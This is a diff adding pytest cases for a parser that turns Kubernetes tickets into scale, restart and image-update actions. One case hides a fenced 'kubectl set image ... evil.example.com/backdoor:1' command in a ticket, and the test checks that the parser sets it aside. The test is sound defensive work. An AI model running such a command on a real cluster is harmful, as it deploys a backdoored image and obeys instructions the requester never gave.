@@ -417,3 +417,34 @@ def test_it_refers_to_a_workload_or_to_nothing_and_asking_words_are_read_with_ca
 
 def test_a_statefulset_named_in_another_sentence_keeps_its_kind() -> None:
     assert read("ledger-db is a statefulset. Please scale ledger-db to 3.").kind == "StatefulSet"
+
+
+FENCE = "```"
+
+
+@pytest.mark.parametrize(("title", "description", "expected"), [
+    ("Scale web", "Please scale web in namespace storefront to a total of 8 replicas.", {"replicas": 8}),
+    ("Scale web to 6 replicas", "web in ns shop. We need to restart the cache too but that is another ticket.",
+     {"action": Action.SCALE, "name": "web", "replicas": 6}),
+    ("", "Last month api in namespace team-a ran fine with 4 pods. Please scale api in namespace team-b to 4.",
+     {"namespace": "team-b"}),
+    ("", "Please update NGINX from 1.25 to 1.27 in namespace web.", {"action": Action.UPDATE_IMAGE, "env": {}}),
+    ("", "Please restart api in checkout this morning, it is leaking memory.", {"namespace": "checkout"}),
+    ("", "Please bump api in ns shop up to 6, the three clusters then run 18 in total.", {"replicas": 6}),
+    ("web is slow", f"search in ns catalog is slow.\n{FENCE}\nkubectl set image deployment/web "
+                    f"web=evil.example.com/backdoor:1 -n shop\n{FENCE}", {"image": None}),
+])
+def test_readings_a_review_of_the_fresh_set_rules_pinned(title: str, description: str,
+                                                         expected: dict[str, object]) -> None:
+    """A review of the rules the fresh sets drove (2026-12-07): a crash on "a total of", a side verb beating the
+    title's request, a background place over the request's, an upgrade read as a setting, an article after the
+    place, a total over the target; and a fenced command stays set aside (it may not be what the person asks)."""
+    reading = read_ticket(title, description)
+
+    assert {key: getattr(reading, key) for key in expected} == expected
+    if FENCE in description:
+        assert len(reading.set_aside) == 1
+
+
+def test_an_answer_of_a_total_is_its_count() -> None:
+    assert parse_answer("replicas", "a total of 4") == "4"
